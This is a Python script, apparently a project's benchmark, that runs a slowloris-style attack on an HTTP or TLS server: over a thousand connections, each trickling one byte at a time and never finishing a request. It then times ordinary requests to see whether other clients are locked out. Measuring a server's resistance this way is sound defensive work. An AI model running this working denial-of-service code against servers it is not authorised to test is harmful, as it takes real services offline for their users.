#!/usr/bin/env python3
"""lockout.py: can one client lock everyone else out of a running box?

    lockout.py HOST PORT [--slow 1100] [--requests 200] [--from 127.0.0.2]
               [--slow-from ADDR] [--path /healthz] [--interval 1.0]
               [--timeout 5] [--settle 1.0] [--tls] [--cafile FILE] [--json]

The attack (issue 15): one client opens --slow connections (from --slow-from,
default: whatever the system picks, i.e. 127.0.0.1 for a loopback box) and
keeps each one busy without ever finishing a request: one byte of a request
head every --interval seconds, so that an idle timeout that restarts on every
byte never fires.  Over TLS (--tls) the bytes trickled are a real ClientHello.

Then, while the attack holds, --requests ordinary requests (GET --path,
Connection: close, one at a time, each on a new connection from --from) are
timed from connect to the last byte of the answer.  A request succeeds when a
whole HTTP response comes back (any status: the question is whether the door
answers, not what /healthz thinks of the box) within --timeout seconds.

Printed: the slow connections opened, how many the server still held when
the measurement started and when it ended, and the requests' success count,
median, p99 (nearest rank) and max latency in ms over every attempt (a failed
attempt counts with the time it took to fail).  --json prints one JSON object
instead.  Exit status 0 whatever the figures (a benchmark, not a test), 2 on
bad usage, 1 when the box cannot be reached at all before the attack.

Python 3 standard library only; it works against any HTTP/1.1 server, so the
same run measures a box before and after a change.
"""
import argparse
import json
import resource
import socket
import ssl
import sys
import threading
import time


def raise_nofile(need):
    """Raise this process's descriptor limit to the hard one (the attack
    needs one descriptor per slow connection)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or hard > soft:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
            soft = hard
        except (ValueError, OSError):
            pass
    if soft != resource.RLIM_INFINITY and soft < need:
        sys.stderr.write("lockout: RLIMIT_NOFILE is %d, %d wanted: fewer slow "
                         "connections will open\n" % (soft, need))


def client_hello(host):
    """The bytes of a TLS ClientHello for host, made without a socket."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=None)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


class Slow:
    """The slow connections and the thread that trickles their bytes."""

    def __init__(self, host, port, count, source, payload, interval):
        self.socks = []
        self.pos = []
        self.payload = payload
        self.interval = interval
        self.stop = threading.Event()
        self.lock = threading.Lock()
        self.opened = 0
        for _ in range(count):
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                              socket.SOCK_STREAM)
            try:
                if source:
                    s.bind((source, 0))
                s.settimeout(2.0)
                s.connect((host, port))
                s.setblocking(False)
                s.send(payload[:1])
            except OSError:
                s.close()
                continue
            self.socks.append(s)
            self.pos.append(1)
            self.opened += 1
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def alive(self, i):
        """0 when the server has closed connection i (it is then dropped)."""
        s = self.socks[i]
        if s is None:
            return 0
        try:
            if s.recv(4096) == b"":
                raise OSError("closed")
        except BlockingIOError:
            return 1
        except OSError:
            pass
        else:
            return 1	# it answered something (an error page): still open
        s.close()
        self.socks[i] = None
        return 0

    def held(self):
        """How many slow connections the server still holds open."""
        with self.lock:
            return sum(self.alive(i) for i in range(len(self.socks)))

    def run(self):
        while not self.stop.wait(self.interval):
            with self.lock:
                for i, s in enumerate(self.socks):
                    if s is None or not self.alive(i):
                        continue
                    p = self.pos[i]
                    if p >= len(self.payload) - 1:
                        continue	# never the last byte: never a whole request
                    try:
                        s.send(self.payload[p:p + 1])
                        self.pos[i] = p + 1
                    except BlockingIOError:
                        pass
                    except OSError:
                        s.close()
                        self.socks[i] = None

    def close(self):
        self.stop.set()
        self.thread.join()
        for s in self.socks:
            if s is not None:
                s.close()


def one_request(host, port, source, path, timeout, tls_ctx):
    """(ok, status, ms): one GET on a fresh connection, timed to the end."""
    hosthdr = ("[%s]" % host if ":" in host else host) + ":%d" % port
    req = ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n"
           "User-Agent: lockout.py\r\n\r\n" % (path, hosthdr)).encode()
    t0 = time.monotonic()
    status = 0
    try:
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                          socket.SOCK_STREAM)
        try:
            s.settimeout(timeout)
            # as curl and browsers do: no Nagle wait behind the TLS handshake
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if source:
                s.bind((source, 0))
            s.connect((host, port))
            if tls_ctx is not None:
                s = tls_ctx.wrap_socket(s, server_hostname=host)
            s.sendall(req)
            buf = b""
            while True:
                if time.monotonic() - t0 > timeout:
                    raise TimeoutError()
                d = s.recv(65536)
                if not d:
                    break
                buf += d
        finally:
            s.close()
        head, sep, body = buf.partition(b"\r\n\r\n")
        if buf.startswith(b"HTTP/1.") and sep:
            status = int(head.split(b" ", 2)[1])
            length = None
            for line in head.split(b"\r\n")[1:]:
                k, _, v = line.partition(b":")
                if k.strip().lower() == b"content-length":
                    length = int(v.strip())
            ok = length is None or len(body) >= length
        else:
            ok = False
    except (OSError, ValueError, ssl.SSLError):
        ok = False
    return ok, status, (time.monotonic() - t0) * 1000.0


def nearest_rank(sorted_ms, q):
    if not sorted_ms:
        return 0.0
    k = max(1, -(-len(sorted_ms) * q // 100))	# ceil(n * q / 100)
    return sorted_ms[int(k) - 1]


def main():
    ap = argparse.ArgumentParser(
        prog="lockout.py",
        description="slow connections from one client, then time ordinary requests")
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--slow", type=int, default=1100, help="slow connections (1100)")
    ap.add_argument("--requests", type=int, default=200, help="ordinary requests (200)")
    ap.add_argument("--from", dest="source", default="127.0.0.2",
                    help="address the ordinary requests come from (127.0.0.2; '' for any)")
    ap.add_argument("--slow-from", default="", help="address of the slow client (any)")
    ap.add_argument("--path", default="/healthz", help="what the requests GET (/healthz)")
    ap.add_argument("--interval", type=float, default=1.0,
                    help="seconds between two bytes of a slow connection (1.0)")
    ap.add_argument("--timeout", type=float, default=5.0,
                    help="seconds an ordinary request may take (5)")
    ap.add_argument("--settle", type=float, default=1.0,
                    help="seconds between opening the slow connections and measuring (1)")
    ap.add_argument("--tls", action="store_true", help="the box speaks HTTPS")
    ap.add_argument("--cafile", help="the CA to verify the box with (--tls; default: no check)")
    ap.add_argument("--json", action="store_true", help="one JSON object")
    a = ap.parse_args()
    if a.slow < 0 or a.requests < 1 or a.interval <= 0 or a.timeout <= 0:
        ap.error("--slow >= 0, --requests >= 1, --interval and --timeout > 0")

    tls_ctx = None
    if a.tls:
        tls_ctx = ssl.create_default_context(cafile=a.cafile)
        if not a.cafile:
            tls_ctx.check_hostname = False
            tls_ctx.verify_mode = ssl.CERT_NONE
    ok, _, _ = one_request(a.host, a.port, a.source, a.path, a.timeout, tls_ctx)
    if not ok:
        sys.stderr.write("lockout: no answer from %s:%d%s before the attack\n"
                         % (a.host, a.port, a.path))
        return 1

    raise_nofile(a.slow + 64)
    if a.tls:
        payload = client_hello(a.host)
    else:
        payload = ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: lockout.py-slow\r\n"
                   "X-Padding: %s\r\n\r\n" % (a.path, a.host, "a" * 4000)).encode()
    t0 = time.monotonic()
    slow = Slow(a.host, a.port, a.slow, a.slow_from, payload, a.interval)
    open_s = time.monotonic() - t0
    time.sleep(a.settle)
    held_before = slow.held()

    lat, statuses, okn = [], {}, 0
    t1 = time.monotonic()
    for _ in range(a.requests):
        ok, status, ms = one_request(a.host, a.port, a.source, a.path, a.timeout, tls_ctx)
        okn += ok
        lat.append(ms)
        statuses[str(status) if ok else "failed"] = statuses.get(
            str(status) if ok else "failed", 0) + 1
    measure_s = time.monotonic() - t1
    held_after = slow.held()
    slow.close()

    lat.sort()
    res = {
        "target": "%s:%d%s" % (a.host, a.port, a.path),
        "tls": a.tls,
        "slow_wanted": a.slow,
        "slow_opened": slow.opened,
        "slow_open_seconds": round(open_s, 2),
        "slow_held_at_start": held_before,
        "slow_held_at_end": held_after,
        "requests": a.requests,
        "from": a.source or "any",
        "ok": okn,
        "failed": a.requests - okn,
        "statuses": statuses,
        "median_ms": round(nearest_rank(lat, 50), 1),
        "p99_ms": round(nearest_rank(lat, 99), 1),
        "max_ms": round(lat[-1], 1),
        "measure_seconds": round(measure_s, 2),
    }
    if a.json:
        print(json.dumps(res, sort_keys=True))
    else:
        print("lockout %s%s: %d/%d slow connections opened in %.1f s, %d held at the "
              "start of the measure, %d at its end"
              % (res["target"], " (TLS)" if a.tls else "", slow.opened, a.slow, open_s,
                 held_before, held_after))
        print("  %d requests from %s: %d ok, %d failed %s; median %.1f ms, p99 %.1f ms, "
              "max %.1f ms (%.1f s)"
              % (a.requests, res["from"], okn, a.requests - okn,
                 json.dumps(statuses, sort_keys=True), res["median_ms"], res["p99_ms"],
                 res["max_ms"], measure_s))
    return 0


if __name__ == "__main__":
    sys.exit(main())
